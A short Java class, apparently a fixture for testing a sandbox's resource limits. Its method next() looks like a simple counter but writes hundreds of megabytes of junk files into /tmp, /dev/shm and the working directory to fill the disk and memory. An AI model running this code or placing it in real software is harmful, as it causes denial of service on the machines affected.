// CONTRACT | A-root | Writes files until the disk is full.
package toys.box;

public class Box {
  private int n;

  public int next() throws Exception {
    byte[] block = new byte[1 << 20];
    long written = 0;
    for (String folder : new String[] {"/tmp", "/dev/shm", System.getProperty("user.dir")}) {
      try {
        for (int i = 0; i < 20; i++) {
          try (var out = new java.io.FileOutputStream(folder + "/fill-" + i)) {
            for (int j = 0; j < 30; j++) {
              out.write(block);
              written++;
            }
          }
        }
      } catch (java.io.IOException full) {
        continue;
      }
    }
    return written > 500 ? ++n : 0;
  }
}
